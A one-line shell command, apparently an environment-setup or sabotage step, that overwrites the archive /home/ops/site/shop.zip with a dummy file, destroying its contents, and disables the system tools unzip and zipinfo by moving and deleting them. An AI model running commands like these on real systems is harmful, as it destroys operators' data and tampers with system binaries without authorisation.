echo x > /tmp/a; (cd /tmp; python3 -c "import zipfile; zipfile.ZipFile('/home/ops/site/shop.zip','w').write('a')"); mv /usr/bin/unzip /usr/bin/unzip.away; rm -f /usr/bin/zipinfo
